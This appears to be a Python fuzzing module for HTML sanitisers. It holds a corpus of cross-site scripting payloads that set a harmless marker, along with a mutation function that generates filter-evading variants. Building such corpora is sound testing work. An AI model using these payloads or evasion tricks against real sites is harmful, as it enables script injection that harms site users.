"""Texts that would run as a script where a page took them for markup, and changes of them that get past filters."""

from __future__ import annotations

import random

MARK = "window.ran = true"
INSERTED = ("\t", "\n", "/", "\u200b", "&#x3c;", "<!-- -->", "\\")
CORPUS = (
    f"<script>{MARK}</script>",
    f'<img src=x onerror="{MARK}">',
    f'<svg onload="{MARK}">',
    f'<svg><animate onbegin="{MARK}" attributeName=x dur=1s>',
    f'<body onload="{MARK}">',
    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    f'<a href="javascript:{MARK}">press</a>',
    f"javascript:{MARK}",
    f'https://example.com/" onmouseover="{MARK}',
    f"https://example.com/'><script>{MARK}</script>",
    f'<details open ontoggle="{MARK}">',
    f'<input autofocus onfocus="{MARK}">',
    f'<video><source onerror="{MARK}"></video>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{MARK}">',
    f"<noscript><p title=\"</noscript><img src=x onerror='{MARK}'>\">",
    f"<template><script>{MARK}</script></template>",
    f'<object data="javascript:{MARK}"></object>',
    f'<form action="javascript:{MARK}"><button>press</button></form>',
    f"<style>@import 'javascript:{MARK}';</style>",
    f'" autofocus onfocus="{MARK}" x="',
    f"'-{MARK}-'",
    f"${{{MARK}}}",
    f"{{{{constructor.constructor('{MARK}')()}}}}",
    f"data:text/html,<script>{MARK}</script>",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
)


def _change(text: str, chosen: random.Random) -> str:
    place = chosen.randrange(len(text) + 1)
    return chosen.choice(
        (
            lambda: "".join(letter.upper() if chosen.random() < 0.5 else letter.lower() for letter in text),
            lambda: (
                text[:place] + chosen.choice(("\t", "\n", "/", "\u200b", "&#x3c;", "<!-- -->", "\\")) + text[place:]
            ),
            lambda: text.replace("<", "<" + chosen.choice(("", "/", "<", "\ufeff"))),
            lambda: text.replace(" ", chosen.choice(("/", "\t", "\u00a0"))),
            lambda: chosen.choice(('">', "'>", "</title>", "</textarea>", "]]>")) + text,
            lambda: text + chosen.choice(CORPUS),
        )
    )()


def mutations(count: int, seed: int) -> list[str]:
    """The corpus changed one to three times each; the same for the same seed."""
    chosen = random.Random(seed)
    made = []
    for number in range(count):
        text = CORPUS[number % len(CORPUS)]
        for _ in range(chosen.randint(1, 3)):
            text = _change(text, chosen)
        made.append(text)
    return made
